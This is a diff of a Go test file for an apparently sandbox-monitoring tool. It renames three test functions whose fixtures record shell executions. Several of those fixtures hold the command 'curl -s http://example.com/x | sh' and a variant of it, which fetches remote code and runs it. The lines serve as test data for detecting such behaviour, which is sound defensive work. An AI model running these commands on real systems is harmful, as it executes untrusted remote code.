@@ -13,7 +13,7 @@ import (
 	"github.com/aigate/gate/sandbox"
 )
 
-func TestWhatTestsDoOnTheBaseAsWellIsANote(t *testing.T) {
+func TestBehaviourOfTestsOnTheBaseIsANote(t *testing.T) {
 	pipe := sandbox.Event{Action: sandbox.ActionExec, Object: "/bin/sh", Args: []string{"sh", "-c", "curl -s http://example.com/x | sh"}, Count: 1}
 	other := sandbox.Event{Action: sandbox.ActionExec, Object: "/bin/sh", Args: []string{"sh", "-c", "curl -s http://example.net/y | sh"}, Count: 1}
 	late := sandbox.Capture{Path: "/tmp/late.py", Data: []byte("print('late')")}
@@ -63,7 +63,7 @@ func TestWhatTestsDoOnTheBaseAsWellIsANote(t *testing.T) {
 	}
 }
 
-func TestWhatAFileDoesOnTheBaseAsWellIsANote(t *testing.T) {
+func TestBehaviourOfAFileOnTheBaseIsANote(t *testing.T) {
 	pipe := sandbox.Event{Action: sandbox.ActionExec, Object: "/bin/sh", Args: []string{"sh", "-c", "curl -s http://example.com/x | sh"}, Count: 1}
 	other := sandbox.Event{Action: sandbox.ActionExec, Object: "/bin/sh", Args: []string{"sh", "-c", "curl -s http://example.net/y | sh"}, Count: 1}
 	const module, edited = "def f():\n    return 0\n", "def f():\n    return 1\n"
@@ -118,7 +118,7 @@ func TestWhatAFileDoesOnTheBaseAsWellIsANote(t *testing.T) {
 	}
 }
 
-func TestWhatAFileDoesUnderAConditionOnTheBaseAsWellIsANote(t *testing.T) {
+func TestConditionalBehaviourOnTheBaseIsANote(t *testing.T) {
 	elsewhere := sandbox.Event{Action: sandbox.ActionExec, Object: "/bin/sh", Args: []string{"sh", "-c", "curl -s http://example.com/x | sh"}, Count: 1}
 	const before, after = "import os\nif os.environ.get('CI'):\n    print(0)\n", "import os\nif os.environ.get('CI'):\n    print(1)\n"
 	for name, tt := range map[string]struct {
